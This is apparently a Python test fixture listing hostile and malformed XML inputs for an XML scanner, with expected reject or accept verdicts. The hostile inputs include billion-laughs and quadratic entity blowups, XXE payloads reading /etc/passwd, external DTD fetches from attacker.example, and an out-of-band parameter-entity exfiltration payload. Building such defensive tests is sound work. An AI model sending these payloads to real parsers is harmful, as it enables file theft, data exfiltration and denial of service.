"""Hand-written hostile and odd XML documents for fastgate._native.xmlscan, with their verdicts.

Each Case says what the scanner must answer (None = accepted, else the PayloadRejected limit and,
where pinned, the offset) under the given limits (defaults: XmlLimits() with the overrides), and
how lxml's verdict relates: "same" (lxml, as tests/fuzz/fuzz_xmlscan.lxml_accepts reads it,
agrees) or a fuzz_xmlscan.QUIRKS key (a documented, deliberate difference).
"""

from __future__ import annotations

from dataclasses import dataclass, field

UNLIMITED = dict(
    max_depth=None,
    max_elements=None,
    max_attributes=None,
    max_attribute_length=None,
    max_text_length=None,
    max_children=None,
    max_bytes=None,
)


@dataclass(frozen=True)
class Case:
    name: str
    data: bytes
    expect: str | None  # None: accepted; else the PayloadRejected.limit
    limits: dict = field(default_factory=dict)  # XmlLimits(**limits) overrides of the defaults
    lxml: str = "same"  # "same" or a QUIRKS key
    offset: int | None = None  # expected PayloadRejected.offset when pinned


def _billion_laughs() -> bytes:
    ents = ['<!ENTITY lol "lol">']
    for k in range(1, 10):
        prev = "lol" if k == 1 else f"lol{k - 1}"
        ents.append(f'<!ENTITY lol{k} "{("&" + prev + ";") * 10}">')
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n ' + "\n ".join(ents) + "\n]>\n"
        "<lolz>&lol9;</lolz>\n"
    ).encode()


def _quadratic() -> bytes:
    big = "A" * 50_000
    return (
        f'<!DOCTYPE kaboom [<!ENTITY a "{big}">]><kaboom>' + "&a;" * 10_000 + "</kaboom>"
    ).encode()


BILLION_LAUGHS = _billion_laughs()
QUADRATIC = _quadratic()
XXE_FILE = (
    b'<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b"<foo>&xxe;</foo>"
)
XXE_HTTP = b'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://attacker.example/x">]><foo>&xxe;</foo>'
PARAM_ENTITY = (
    b'<!DOCTYPE foo [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]><foo/>'
)
PARAM_OOB = (
    b'<!DOCTYPE foo [<!ENTITY % file SYSTEM "file:///etc/passwd">'
    b"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://x/?%file;'>\">"
    b" %eval; %exfil;]><foo/>"
)
DOCTYPE_SYSTEM = b'<!DOCTYPE foo SYSTEM "http://attacker.example/foo.dtd"><foo/>'
DOCTYPE_PUBLIC = b'<!DOCTYPE foo PUBLIC "-//X//DTD Y//EN" "foo.dtd"><foo/>'

DEEP_1MB = b"<a>" * 262_144 + b"</a>" * 262_144  # 1.75 MiB, depth 262144
MANY_ATTRS = b"<a " + b" ".join(b'a%d="1"' % k for k in range(100_000)) + b"/>"
HUGE_ATTR = b'<a b="' + b"x" * 1_000_000 + b'"/>'
HUGE_TEXT = b"<a>" + b"x" * 1_000_000 + b"</a>"
WIDE = b"<r>" + b"<c/>" * 20_000 + b"</r>"

CASES: list[Case] = [
    # --- DTD attacks: refused at the first bytes of <!DOCTYPE by default -----------------------
    Case("billion_laughs", BILLION_LAUGHS, "allow_dtd", lxml="dtd", offset=24),
    Case("quadratic_blowup", QUADRATIC, "allow_dtd", limits=UNLIMITED, lxml="dtd", offset=2),
    Case("xxe_file", XXE_FILE, "allow_dtd", lxml="dtd", offset=24),
    Case("xxe_http", XXE_HTTP, "allow_dtd", lxml="dtd", offset=2),
    Case("parameter_entity", PARAM_ENTITY, "allow_dtd", lxml="dtd", offset=2),
    Case("parameter_entity_oob", PARAM_OOB, "allow_dtd", lxml="dtd", offset=2),
    Case("doctype_system", DOCTYPE_SYSTEM, "allow_dtd", lxml="dtd", offset=2),
    Case("doctype_public", DOCTYPE_PUBLIC, "allow_dtd", lxml="dtd", offset=2),
    Case(
        "doctype_after_bom_and_decl",
        b"\xef\xbb\xbf<?xml version='1.0'?>\n<!DOCTYPE a><a/>",
        "allow_dtd",
        lxml="dtd",
        offset=27,
    ),
    Case("doctype_in_content", b"<a><!DOCTYPE a></a>", "allow_dtd", offset=5),
    Case("doctype_after_root", b"<a/><!DOCTYPE a>", "allow_dtd", offset=6),
    Case("doctype_prefix_only", b"<!D", "allow_dtd", offset=2),
    # --- allow_dtd: the DTD is skipped, nothing is expanded ------------------------------------
    Case(
        "allowed_billion_laughs",
        BILLION_LAUGHS,
        "malformed",
        limits=dict(allow_dtd=True),
        lxml="dtd",
        offset=len(BILLION_LAUGHS) - 12,
    ),  # the "o" of &lol9;
    Case(
        "allowed_quadratic",
        QUADRATIC,
        "malformed",
        limits=dict(UNLIMITED, allow_dtd=True),
        lxml="dtd",
    ),
    Case(
        "allowed_xxe_file",
        XXE_FILE,
        "malformed",
        limits=dict(allow_dtd=True),
        lxml="dtd",
        offset=len(XXE_FILE) - 10,
    ),  # the first "x" of &xxe;
    Case("allowed_xxe_http", XXE_HTTP, "malformed", limits=dict(allow_dtd=True), lxml="dtd"),
    Case("allowed_parameter_entity", PARAM_ENTITY, None, limits=dict(allow_dtd=True), lxml="dtd"),
    Case("allowed_parameter_entity_oob", PARAM_OOB, None, limits=dict(allow_dtd=True), lxml="dtd"),
    Case("allowed_doctype_system", DOCTYPE_SYSTEM, None, limits=dict(allow_dtd=True)),
    Case("allowed_doctype_public", DOCTYPE_PUBLIC, None, limits=dict(allow_dtd=True)),
    Case("allowed_doctype_plain", b"<!DOCTYPE a><a/>", None, limits=dict(allow_dtd=True)),
    Case(
        "allowed_doctype_subset_odd",
        b"<!DOCTYPE a [\n <!-- ]> ' \" -->\n <?pi ]>?>\n <!ELEMENT a (#PCDATA)>\n"
        b" <!ATTLIST a b CDATA \"]>'\">\n <!ENTITY e '\">]'>\n]>\n<a b='1'>x</a>",
        None,
        limits=dict(allow_dtd=True),
    ),
    Case(
        "allowed_doctype_twice",
        b"<!DOCTYPE a><!DOCTYPE a><a/>",
        "malformed",
        limits=dict(allow_dtd=True),
        offset=14,
    ),
    Case(
        "allowed_doctype_after_root",
        b"<a/><!DOCTYPE a>",
        "malformed",
        limits=dict(allow_dtd=True),
        offset=6,
    ),
    Case(
        "allowed_doctype_in_content",
        b"<a><!DOCTYPE a></a>",
        "malformed",
        limits=dict(allow_dtd=True),
        offset=5,
    ),
    Case(
        "allowed_doctype_no_space",
        b"<!DOCTYPEa><a/>",
        "malformed",
        limits=dict(allow_dtd=True),
        offset=9,
    ),
    Case(
        "allowed_doctype_lowercase",
        b"<!doctype a><a/>",
        "malformed",
        limits=dict(allow_dtd=True),
        offset=2,
    ),
    Case(
        "allowed_doctype_unclosed",
        b"<!DOCTYPE a [<!ELEMENT a ANY>",
        "malformed",
        limits=dict(allow_dtd=True),
        offset=29,
    ),
    Case(
        "allowed_doctype_conditional",
        b"<!DOCTYPE a [<![INCLUDE[]]>]><a/>",
        "malformed",
        limits=dict(allow_dtd=True),
        offset=15,
    ),
    Case(
        "allowed_doctype_entity_still_refused",
        b"<!DOCTYPE a [<!ENTITY e 'x'>]><a>&e;</a>",
        "malformed",
        limits=dict(allow_dtd=True),
        lxml="dtd",
        offset=34,
    ),
    Case("entity_decl_outside_dtd", b"<!ENTITY e 'x'><a/>", "malformed", offset=2),
    Case("entity_decl_in_content", b"<a><!ENTITY e 'x'></a>", "malformed", offset=5),
    # --- size attacks ----------------------------------------------------------------------
    Case("deep_1mb_default", DEEP_1MB, "max_depth", lxml="depth256", offset=3 * 30 + 1),
    Case(
        "deep_1mb_unlimited_depth",
        DEEP_1MB,
        "max_bytes",
        limits=dict(max_depth=None, max_elements=None),
        lxml="depth256",
        offset=1 << 20,
    ),
    Case("deep_1mb_unlimited", DEEP_1MB, None, limits=UNLIMITED, lxml="depth256"),
    Case("many_attributes", MANY_ATTRS, "max_attributes", offset=3 + 10 * 7 + 40 * 8),
    Case("many_attributes_unlimited", MANY_ATTRS, None, limits=UNLIMITED),
    Case("huge_attribute_value", HUGE_ATTR, "max_attribute_length", offset=6 + 1000),
    Case("huge_attribute_value_unlimited", HUGE_ATTR, None, limits=UNLIMITED),
    Case("huge_text", HUGE_TEXT, "max_text_length", offset=3 + 100_000),
    Case("huge_text_unlimited", HUGE_TEXT, None, limits=UNLIMITED),
    Case("wide", WIDE, "max_children", limits=dict(max_elements=None), offset=3 + 1000 * 4 + 1),
    Case(
        "wide_elements",
        WIDE,
        "max_elements",
        limits=dict(max_children=None),
        offset=3 + 9_999 * 4 + 1,
    ),
    Case(
        "over_max_bytes",
        b"<a>" + b" " * (1 << 20) + b"</a>",
        "max_bytes",
        limits=dict(max_text_length=None),
        offset=1 << 20,
    ),
    # --- structure -------------------------------------------------------------------------
    Case("empty", b"", "malformed", offset=0),
    Case("whitespace_only", b" \n\t\r", "malformed", offset=4),
    Case("bom_only", b"\xef\xbb\xbf", "malformed", offset=3),
    Case("unclosed", b"<a><b></b>", "malformed", offset=10),
    Case("unclosed_start_tag", b"<a", "malformed", offset=2),
    Case("unclosed_comment", b"<a/><!-- x", "malformed", offset=10),
    Case("mismatched", b"<a><b></a></b>", "malformed", offset=8),
    Case("mismatched_prefix", b"<p:a xmlns:p='u' xmlns:q='u'></q:a>", "malformed", offset=31),
    Case("end_tag_longer", b"<a></ab>", "malformed", offset=6),
    Case("end_tag_shorter", b"<ab></a>", "malformed", offset=7),
    Case("end_tag_space_before_name", b"<a></ a>", "malformed", offset=5),
    Case("end_tag_trailing_space", b"<a></a \n>", None),
    Case("stray_end_tag", b"</a>", "malformed", offset=1),
    Case("two_roots", b"<a/><b/>", "malformed", offset=5),
    Case("text_after_root", b"<a/>x", "malformed", offset=4),
    Case("text_before_root", b"x<a/>", "malformed", offset=0),
    Case("misc_around_root", b"<!--c-->\n<?pi data?>\n<a/>\n<!--d--><?pi?>\n", None),
    Case("cdata_outside_root", b"<![CDATA[x]]><a/>", "malformed", offset=2),
    Case("cdata_after_root", b"<a/><![CDATA[x]]>", "malformed", offset=6),
    Case("cdata_nesting", b"<a><![CDATA[<![CDATA[x]]>]]></a>", "malformed", offset=27),
    Case("cdata_brackets", b"<a><![CDATA[]]]]]><![CDATA[]]]></a>", None),
    Case("cdata_lowercase", b"<a><![cdata[x]]></a>", "malformed", offset=6),
    Case("cdata_end_in_text", b"<a>x]]>y</a>", "malformed", offset=6),
    Case("cdata_end_in_text_3", b"<a>]]]></a>", "malformed", offset=6),
    Case("brackets_in_text", b"<a>]] > ]]&gt; ]]</a>", None),
    Case("cdata_end_in_attribute", b"<a b=']]>'/>", None),
    Case("comment_double_hyphen", b"<a><!-- a -- b --></a>", "malformed", offset=12),
    Case("comment_ends_with_hyphen", b"<a><!-- a ---></a>", "malformed", offset=12),
    Case("comment_empty", b"<a><!----></a>", None),
    Case("comment_dash_gt", b"<a><!--->--></a>", None),
    Case("comment_single_dash", b"<!-a/>", "malformed", offset=3),
    Case("pi_xml_not_at_start", b" <?xml version='1.0'?><a/>", "malformed", offset=6),
    Case("pi_xml_in_content", b"<a><?xml version='1.0'?></a>", "malformed", offset=8),
    Case("pi_xml_uppercase", b"<?XML version='1.0'?><a/>", "malformed", offset=5),
    Case("pi_xml_mixed_case", b"<a><?xMl?></a>", "malformed", offset=8),
    Case("pi_xml_prefixed_target", b"<?xml-stylesheet href='a.xsl'?><a><?xmlfoo?></a>", None),
    Case("pi_colon", b"<a><?p:q?></a>", "malformed", offset=6),
    Case("pi_no_space", b"<a><?pi?x?></a>", "malformed", offset=8),
    Case("pi_no_target", b"<a><? x?></a>", "malformed", offset=5),
    Case(
        "xml_decl_twice", b"<?xml version='1.0'?><?xml version='1.0'?><a/>", "malformed", offset=26
    ),
    Case("xml_decl_no_version", b"<?xml encoding='UTF-8'?><a/>", "malformed", offset=6),
    Case("xml_decl_version_2", b"<?xml version='2.0'?><a/>", "malformed", offset=15),
    Case("xml_decl_version_11", b'<?xml version="1.1"?><a/>', None),
    Case(
        "xml_decl_order",
        b"<?xml version='1.0' standalone='yes' encoding='UTF-8'?><a/>",
        "malformed",
        offset=37,
    ),
    Case(
        "xml_decl_full",
        b"<?xml version = '1.0'\tencoding=\"utf-8\"\nstandalone='no' ?>\n<a/>",
        None,
    ),
    Case(
        "xml_decl_standalone_case",
        b"<?xml version='1.0' standalone='YES'?><a/>",
        "malformed",
        offset=32,
    ),
    Case(
        "xml_decl_missing_space",
        b"<?xml version='1.0'encoding='UTF-8'?><a/>",
        "malformed",
        offset=19,
    ),
    Case("xml_decl_only", b"<?xml version='1.0'?>", "malformed", offset=21),
    # --- encodings ---------------------------------------------------------------------------
    Case("bom_utf8", b"\xef\xbb\xbf<a/>", None),
    Case("bom_utf8_decl", b"\xef\xbb\xbf<?xml version='1.0' encoding='UTF-8'?><a/>", None),
    Case("bom_twice", b"\xef\xbb\xbf\xef\xbb\xbf<a/>", "malformed", offset=3),
    Case("bom_truncated", b"\xef\xbb<a/>", "malformed", offset=2),
    Case("bom_in_content", b"<a>\xef\xbb\xbf</a>", None),
    Case("utf16le_bom", "<a/>".encode("utf-16"), "malformed", lxml="utf16", offset=0),
    Case(
        "utf16be_bom", b"\xfe\xff" + "<a/>".encode("utf-16-be"), "malformed", lxml="utf16", offset=0
    ),
    Case("utf16le_no_bom", "<a/>".encode("utf-16-le"), "malformed", offset=1),
    Case(
        "utf16le_no_bom_decl",
        "<?xml version='1.0'?><a/>".encode("utf-16-le"),
        "malformed",
        lxml="utf16",
        offset=1,
    ),
    Case("utf16_declared", b"<?xml version='1.0' encoding='UTF-16'?><a/>", "malformed", offset=34),
    Case(
        "latin1_declared",
        b"<?xml version='1.0' encoding='ISO-8859-1'?><a>\xe9</a>",
        "malformed",
        lxml="encoding",
        offset=30,
    ),
    Case("ascii_declared", b"<?xml version='1.0' encoding='US-ASCII'?><a>&#233;</a>", None),
    Case(
        "ascii_declared_high_byte",
        b"<?xml version='1.0' encoding='us-ascii'?><a>\xc3\xa9</a>",
        "malformed",
        offset=44,
    ),
    Case(
        "ascii_declared_with_bom",
        b"\xef\xbb\xbf<?xml version='1.0' encoding='ascii'?><a>\xc3\xa9</a>",
        None,
    ),
    Case("invalid_utf8", b"<a>\xc3\x28</a>", "malformed", offset=4),
    Case("overlong_utf8", b"<a>\xc0\xbc</a>", "malformed", offset=3),
    Case("surrogate_utf8", b"<a>\xed\xa0\x80</a>", "malformed", offset=4),
    Case("above_10ffff_utf8", b"<a>\xf4\x90\x80\x80</a>", "malformed", offset=4),
    Case("truncated_utf8_at_end", b"<a/>\xe2\x82", "malformed", offset=4),
    Case("noncharacter_fffe", b"<a>\xef\xbf\xbe</a>", "malformed", offset=5),
    Case("c1_control_is_a_char", b"<a>\xc2\x85\xc2\x9f</a>", None),
    Case("nul_byte", b"<a>\x00</a>", "malformed", offset=3),
    Case("vertical_tab", b"<a>\x0b</a>", "malformed", offset=3),
    Case(
        "emoji_everywhere",
        "<é日 a\u00b7='\U0001f600'>\U0001f600<?\u00e9 \U0001f600?><!--\U0001f600--></é日>".encode(),
        None,
    ),
    # --- references -------------------------------------------------------------------------
    Case(
        "predefined_entities",
        b"<a b='&lt;&gt;&amp;&apos;&quot;'>&lt;&gt;&amp;&apos;&quot;</a>",
        None,
    ),
    Case("undeclared_entity", b"<a>&foo;</a>", "malformed", offset=4),
    Case("undeclared_entity_prefix_of_lt", b"<a>&ltx;</a>", "malformed", offset=6),
    Case("entity_case", b"<a>&LT;</a>", "malformed", offset=4),
    Case("entity_no_semicolon", b"<a>&amp</a>", "malformed", offset=7),
    Case("bare_ampersand", b"<a>a & b</a>", "malformed", offset=6),
    Case("charref_nul", b"<a>&#0;</a>", "malformed", offset=6),
    Case("charref_surrogate", b"<a>&#xD800;</a>", "malformed", offset=10),
    Case("charref_surrogate_dec", b"<a>&#57343;</a>", "malformed", offset=10),
    Case("charref_fffe", b"<a>&#xFFFE;</a>", "malformed", offset=10),
    Case("charref_control", b"<a>&#1;</a>", "malformed", offset=6),
    Case("charref_too_big", b"<a>&#x110000;</a>", "malformed", offset=11),
    Case("charref_huge_decimal", b"<a>&#99999999999999999999;</a>", "malformed", offset=11),
    Case("charref_uppercase_x", b"<a>&#X41;</a>", "malformed", offset=5),
    Case("charref_empty", b"<a>&#;</a>", "malformed", offset=5),
    Case("charref_hex_empty", b"<a>&#x;</a>", "malformed", offset=6),
    Case(
        "charref_ok", b"<a b='&#9;&#10;&#13;&#x20;'>&#x10FFFF;&#0065;&#x0000041;&#xE000;</a>", None
    ),
    # --- tags and attributes ----------------------------------------------------------------
    Case("duplicate_attribute", b"<a b='1' b='2'/>", "malformed", offset=10),
    Case(
        "duplicate_ns_attribute",
        b"<a xmlns:p='urn:u' xmlns:q='urn:u' p:x='1' q:x='2'/>",
        "malformed",
        offset=51,
    ),
    Case(
        "duplicate_ns_attribute_inherited",
        b"<a xmlns:p='urn:u'><b xmlns:q='urn:u' p:x='1' q:x='1'/></a>",
        "malformed",
        offset=54,
    ),
    Case(
        "same_local_different_ns",
        b"<a xmlns:p='urn:u' xmlns:q='urn:v' p:x='1' q:x='2' x='3'/>",
        None,
    ),
    Case("unbound_element_prefix", b"<p:a/>", "malformed", offset=5),
    Case("unbound_attribute_prefix", b"<a p:x='1'/>", "malformed", offset=11),
    Case("prefix_declared_after_use", b"<p:a p:x='1' xmlns:p='urn:u'/>", None),
    Case("prefix_out_of_scope", b"<a><b xmlns:p='urn:u'/><p:c/></a>", "malformed", offset=28),
    Case("xml_prefix_predeclared", b"<xml:a xml:lang='en'/>", None),
    Case("xmlns_prefix_on_element", b"<xmlns:a/>", "malformed", offset=9),
    Case("xmlns_empty_prefix_decl", b"<a xmlns:p=''/>", "malformed", offset=12),
    Case("xmlns_default_empty", b"<a xmlns=''/>", None),
    Case("xmlns_xml_wrong_uri", b"<a xmlns:xml='urn:u'/>", "malformed", offset=19),
    Case("xmlns_xml_right_uri", b"<a xmlns:xml='http://www.w3.org/XML/1998/namespace'/>", None),
    Case("xmlns_xmlns", b"<a xmlns:xmlns='urn:u'/>", "malformed", offset=21),
    Case("xmlns_bad_uri", b"<a xmlns:p='a b'/>", "malformed", offset=15),
    Case(
        "xmlns_non_ascii_uri", "<a xmlns:p='http://é.example/'/>".encode(), "malformed", offset=30
    ),
    Case("qname_two_colons", b"<a:b:c xmlns:a='urn:u'/>", "malformed", offset=4),
    Case("qname_leading_colon", b"<:a/>", "malformed", offset=1),
    Case("qname_trailing_colon", b"<a b:='1'/>", "malformed", offset=5),
    Case("qname_digit_local", b"<a:1 xmlns:a='urn:u'/>", "malformed", offset=3),
    Case("name_starts_with_digit", b"<1a/>", "malformed", offset=1),
    Case("name_combining_start", "<\u0300/>".encode(), "malformed", offset=2),
    Case("space_after_lt", b"< a/>", "malformed", offset=1),
    Case("attribute_without_value", b"<a b/>", "malformed", offset=4),
    Case("attribute_unquoted", b"<a b=1/>", "malformed", offset=5),
    Case("attributes_without_space", b"<a b='1'c='2'/>", "malformed", offset=8),
    Case("lt_in_attribute", b"<a b='<'/>", "malformed", offset=6),
    Case("gt_in_attribute", b"<a b='>'/>", None),
    Case("quotes_in_attribute", b"<a b=\"'\" c='\"'/>", None),
    Case("whitespace_in_tags", b"<a\n\tb\r\n=\n'1'\r\n></a\t>", None),
    Case("slash_space_gt", b"<a/ >", "malformed", offset=3),
    Case("long_name_limit", b"<" + b"n" * 50_000 + b"/>", None),
    Case("long_name_over", b"<" + b"n" * 50_001 + b"/>", "malformed", offset=50_001),
    Case("long_prefixed_name", b"<p:" + b"n" * 50_000 + b" xmlns:p='urn:u'/>", None),
]
